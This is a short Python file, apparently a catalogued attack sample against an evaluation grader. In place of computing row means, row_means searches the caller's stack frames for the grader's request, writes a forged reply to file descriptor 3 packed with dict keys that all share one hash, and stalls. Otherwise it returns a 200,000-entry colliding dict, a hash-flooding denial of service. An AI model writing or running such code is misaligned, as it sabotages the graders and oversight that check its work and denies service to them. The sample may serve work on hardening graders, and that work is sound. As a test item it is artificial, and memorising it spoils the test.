"""Answer with dicts whose keys all have one hash: each costs as much to look up as all of them together.

The frame is written by hand, since to make such a dict takes this process as long as it takes the grader.

Known from: web frameworks that put a form's fields into a dict, 2011.
Shows: late
Outcome: error
"""

import os
import struct
import sys
import time

PRIME = 2**61 - 1


def row_means(x):
    frame = sys._getframe()
    while frame is not None:
        head = frame.f_locals.get("head")
        if isinstance(head, dict) and "id" in head:
            entries = ",".join(f"[{number * PRIME},0]" for number in range(1, 2001))
            tree = "[" + ",".join(['{"d":[%s]}' % entries] * 35) + "]"
            text = b'{"head":{"id":%d,"ok":%s},"tensors":[]}' % (head["id"], tree.encode())
            data = struct.pack("<4sIQ", b"KSF1", len(text), 0) + text
            while data:
                data = data[os.write(3, data) :]
            time.sleep(60)
        frame = frame.f_back
    return {number * PRIME: 0 for number in range(200_000)}
